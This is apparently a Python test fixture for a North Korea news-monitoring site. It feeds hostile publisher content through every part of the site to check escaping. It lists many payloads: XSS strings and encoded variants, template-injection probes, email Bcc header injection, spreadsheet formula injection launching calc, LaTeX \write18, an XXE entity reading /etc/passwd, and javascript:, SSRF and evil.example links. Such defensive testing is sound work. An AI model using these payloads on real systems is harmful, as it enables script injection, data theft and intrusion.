"""What a hostile publisher could write, and how it gets into every part of the site."""

import html
from collections.abc import Iterator
from datetime import timedelta
from email.message import EmailMessage
from operator import attrgetter

from nkwatch.assembly import Newsroom
from nkwatch.daemon import TICKS
from nkwatch.domain.casepage import CaseWords
from nkwatch.domain.desk import Note, Ruling, RulingKind
from nkwatch.domain.outcome import Fetched
from nkwatch.domain.statement import Entry
from nkwatch.domain.story import AlertState
from nkwatch.feeds.documents import Document, Parsed
from nkwatch.feeds.parse import read_feed
from tests.making import prose
from tests.web.samples import ENGLISH, KOREAN, NOW, confirmed, handed_over, poll

#: Wherever one of these comes out as a name of a tag or attribute, in an address or as a call, something got through.
EVIL = "evil"
AWAY = "https://evil.example/"
#: By what an expression of a template language becomes, should anything evaluate it.
SUM, EVALUATED = "7*7191", "50337"

MARKUP = (
    "<script>evil()</script>",
    "<scr<script>ipt>evil()</scr</script>ipt>",
    "<<script>evil();//<</script>",
    "<script/x>evil()</script\n>",
    "</title></style></textarea></noscript></script><script>evil()</script>",
    "</p></main></body></html><script>evil()</script>",
    '"><img src=x onerror=evil()>',
    "'><img src=x onerror=evil()>",
    '" onmouseover="evil()" autofocus onfocus="evil()" x="',
    "' onmouseover='evil()' x='",
    "` onmouseover=`evil()`",
    "<img src=x onerror=evil()//",
    f'<img src="{AWAY}pixel.gif"><img srcset="{AWAY}a 2x"><video poster="{AWAY}p">',
    "<svg/onload=evil()><svg><script>evil()</script><animate onbegin=evil() attributeName=x></svg>",
    '<svg><use href="data:image/svg+xml,<svg onload=evil()>"/><foreignObject><body onload=evil()></foreignObject></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=evil()>'>",
    '<math href="javascript:evil()"><maction actiontype="statusline" xlink:href="javascript:evil()">x</maction></math>',
    f"</style><style>@import '{AWAY}x.css';*{{background:url({AWAY}x)}}</style>",
    f'<p style="background:url({AWAY}x);position:fixed;inset:0">covered</p>',
    f'<base href="{AWAY}"><meta http-equiv=refresh content="0;url={AWAY}"><link rel=stylesheet href="{AWAY}x.css">',
    f'<iframe srcdoc="<script>evil()</script>"></iframe><object data="{AWAY}"></object><embed src="{AWAY}">',
    f'<form action="{AWAY}"><input name=address><button formaction="{AWAY}">Go on</button></form>',
    '<a href="javascript:evil()">a</a><a href="java&#10;script:evil()">b</a><a href=" &#1; javascript:evil()">c</a>',
    '<a href="data:text/html,<script>evil()</script>">d</a><a href="vbscript:evil()">e</a>',
    "<evil evil=evil>f</evil><p evil=evil>g</p>",
    "<!--><script>evil()</script>--><![CDATA[<script>evil()</script>]]>",
    "]]><script>evil()</script><![CDATA[",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY evil SYSTEM "file:///etc/passwd">]><x>&evil;</x>',
    "<template><script>evil()</script></template><noscript><p title='</noscript><img src=x onerror=evil()>'>",
)
ENCODED = tuple(
    written
    for one in ("<script>evil()</script>", '"><img src=x onerror=evil()>')
    for written in (
        html.escape(one),
        html.escape(html.escape(one)),
        "".join(f"&#{ord(c)};" for c in one),
        "".join(f"&#x{ord(c):x}" for c in one),
        one.replace("<", "%3C").replace(">", "%3E"),
        one.replace("<", "\uff1c").replace(">", "\uff1e"),
        one.replace("<", "\\u003c"),
    )
)
TEMPLATES = (
    f"{{{{ {SUM} }}}} {{% raw %}} {{# {SUM} #}} ${{{SUM}}} #{{{SUM}}} <%= {SUM} %> {{{{ config }}}} {{{{ ''.__class__ }}}}",
    f"{{{SUM}}} %(title)s %s {{0}} {{title}} {{name!r}}",
    "\ue000leave_url\ue001\ue000settings_url\ue001",
)
LETTERS = (
    "abc \u202edcba\u202c \u2066evil\u2069 \u200f\u061c",
    "n\u200bo\u200cr\u200dt\u2060h\ufeff \U000e0065\U000e0076\U000e007f \u00ad\u180e\u3164\u115f",
    "\x00\x01\x08\x0b\x0c\x1b[31mred\x1b[0m\x1f\x7f\x80\x85\x9b31m\x9f",
    "one\r\nBcc: all@evil.example\r\n\r\n<script>evil()</script>\u2028two\u2029three\x85four",
    "=?utf-8?q?=0D=0ABcc:_all=40evil.example?=",
    "W" * 4000,
    "\u1112\u1161\u11ab" * 1500,
    "Z" + "\u0300\u0489" * 600,
    "\U0001f468\u200d" * 300,
    "\ufdd0\uffff\U0010ffff\ufffd",
)
#: What other programs make something of: spreadsheets, LaTeX, reference managers, terminals.
OTHERS = (
    '=HYPERLINK("https://evil.example/"&A1,"report")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "}},\n url = {https://evil.example}}\n@misc{evil, title={evil}}\n\\input{/etc/passwd}\\write18{evil}",
    "title\nER  - \nTY  - EVIL\nUR  - https://evil.example/",
    '","id":"evil","x":"\\',
)
PAYLOADS = (*MARKUP, *ENCODED, *TEMPLATES, *LETTERS, *OTHERS)
LINKS = (
    "javascript:evil()",
    "JaVaScRiPt:evil()",
    "\x01javascript:evil()",
    "java\tscript:evil()",
    "data:text/html,<script>evil()</script>",
    "vbscript:evil()",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://evil.example@www.{own}/x",
    "https://www.{own}@evil.example/x",
    'https://www.{own}/"><script>evil()</script>',
    "https://www.{own}/' onmouseover='evil()",
    'https://www.{own}/x?a=<script>evil()</script>&b="onload=evil()',
    'https://www.{own}/x#"><img src=x onerror=evil()>',
    "https://www.{own}\\@evil.example/x",
    "https://www.{own}:99999/x",
    "https://[evil/x",
    "https://\u202emoc.live\u202c/x",
    "https://www.{own}\u3002evil.example/x",
    "http://127.0.0.1/admin",
    "http://2130706433/",
    "http://[::1]/",
    "https://" + "a" * 3000 + ".example/",
    "/relative/<script>evil()</script>",
    "",
)


def text_with(payload: str, n: int, seed: str) -> str:
    """A text on North Korea in which the payload stands wherever something is found: quotes, asks, names, evidence."""
    whole = (
        f"{payload} North Korea must close its political prison camps, a group said on Sunday. {payload}",
        f'"North Korea must release {payload} at once," said {payload}, director of the group.',
        f"The group urged China to stop the forced repatriation of North Korean refugees, among them {payload}.",
        f'"We demand that the Chinese government protects {payload}," said Kim Dong-chul{payload}.',
        f"Seven North Korean refugees held in Yanji face forced repatriation within days, {payload} said.",
    )
    # with the same words in all of them they would be one story
    own = whole if n % 3 == 0 else whole[n % 4 : n % 4 + 1]
    return "\n\n".join((*own, prose(seed)))


def entries(own: str) -> list[Entry]:
    """Entries as no reader of feeds would let them by: what stores and shows them must not rely on that."""
    made = []
    for n, payload in enumerate(PAYLOADS):
        link = LINKS[n % len(LINKS)].format(own=own)
        made.append(
            Entry(
                f"{payload} Prison camp {prose(f't{n}y', 9)} {payload}",
                link or f"https://www.{own}/{n}",
                text_with(payload, n, f"h{n}x"),
                f"{n} {payload}",
                NOW - timedelta(minutes=5 * n),
                payload,
                payload[:20] if n % 3 == 0 else "en",
            )
        )
    return made


def feed_xml(own: str) -> bytes:
    """The same as feeds are written: escaped, in CDATA, twice escaped, as XHTML of Atom."""
    items = []
    for n, payload in enumerate(PAYLOADS):
        # XML itself has no words for most control letters
        clean = "".join(
            c
            if c in "\t\n\r" or (c >= " " and not "\ufdd0" <= c <= "\ufdef" and c not in "\ufffe\uffff")
            else f"&#{ord(c)};"
            for c in payload
        )
        text = text_with(payload, n, f"f{n}x")
        body = html.escape(text) if n % 2 else "<![CDATA[" + text.replace("]]>", "]]]]><![CDATA[>") + "]]>"
        title = html.escape(html.escape(payload)) if n % 3 else html.escape(payload)
        link = html.escape(LINKS[n % len(LINKS)].format(own=own) or f"https://www.{own}/f{n}")
        items.append(
            f"<item><title>{title} Prison camp {prose(f'u{n}y', 9)}</title><link>{link}</link>"
            f"<guid isPermaLink='false'>f{n}</guid><author>{html.escape(clean[:100])}</author>"
            f"<description>{body}</description><pubDate>Sun, 22 Nov 2026 06:{n % 60:02}:00 GMT</pubDate></item>"
        )
    return f"<rss version='2.0'><channel><title>x</title>{''.join(items)}</channel></rss>".encode("utf-8", "replace")


async def hostile_site(newsroom: Newsroom) -> list[EmailMessage]:
    """Everything that the site shows, made of what hostile sources say; answers the mails that readers got of it."""
    for reader, form in enumerate(({"format": "html"}, {"format": "text"}, {"language": "ko"}, {"neutral": True})):
        await confirmed(newsroom, f"reader{reader}@inbox.example", alerts=True, **form)
    await work(newsroom)  # standard editions begin with the first round
    source = newsroom.sources[KOREAN]
    parsed = read_feed(
        Document(feed_xml(f"{KOREAN}.example"), source.url, "application/rss+xml; charset=utf-8"), source
    )
    assert isinstance(parsed, Parsed)
    for source_id, own in ((ENGLISH, entries(f"{ENGLISH}.example")), (KOREAN, list(parsed.entries))):
        await poll(newsroom, source_id, Fetched((), etag='"0"'))
        for start in range(0, len(own), 9):  # more at once would be a rebuilt site, and no news
            await poll(newsroom, source_id, Fetched(tuple(own[: start + 9]), etag=f'"{start}"'))
    await work(newsroom, "read")
    mails = await _edited(newsroom)
    newsroom.clock.now += timedelta(days=8)  # every window closes, of readers and of standard editions
    await work(newsroom)
    return [*mails, *await handed_over(newsroom)]


async def work(newsroom: Newsroom, *only: str) -> None:
    """One round of each part of the daemon that asks nobody outside, until nothing is left to do."""
    outside = {"collect", "visit", "tell", "call", "deliver.urgent", "deliver.bulk", "bounces", "replies", "watch"}
    for part in only or (p for p in TICKS if p not in outside):
        for _ in range(40):
            if not any(vars_of(await attrgetter(part)(newsroom)())):
                break


def vars_of(result: object) -> Iterator[object]:
    """The figures of a round."""
    return (getattr(result, name) for name in getattr(result, "__dataclass_fields__", {}))


async def _edited(newsroom: Newsroom) -> list[EmailMessage]:
    """What editors do with what they got: alerts go out, some are taken back in words that were copied from them."""
    for story in await newsroom.statements.held_alerts(500):
        await newsroom.statements.record_alert(story.id, AlertState.RELEASED, "released by Ann", newsroom.clock())
    await newsroom.publish()
    mails = await handed_over(newsroom)
    sent = await newsroom.statements.sent_alerts(3)
    for story, kind in zip(sent, (RulingKind.WITHDRAW, RulingKind.CORRECT, RulingKind.CORRECT), strict=False):
        words = "".join(c for c in MARKUP[6] + story.lead.statement.title[:200] if c != "\0")
        await newsroom.rulings._take_back(kind, story.id, (("en", words),), "Ann<script>evil()</script>")
        await newsroom.desk.note(story.id, Note((("en", words),), "Ann", newsroom.clock()), newsroom.clock())
        await newsroom.desk.rule(Ruling(story.id, RulingKind.STOP, "Ann", newsroom.clock(), words))
    for found in await newsroom.cases.candidates(NOW - timedelta(days=90), 3):
        said = CaseWords("en", MARKUP[6], f"{MARKUP[0]} {LETTERS[0]}", "Ann", newsroom.clock())
        await newsroom.cases.open(found.key, said)
    return mails
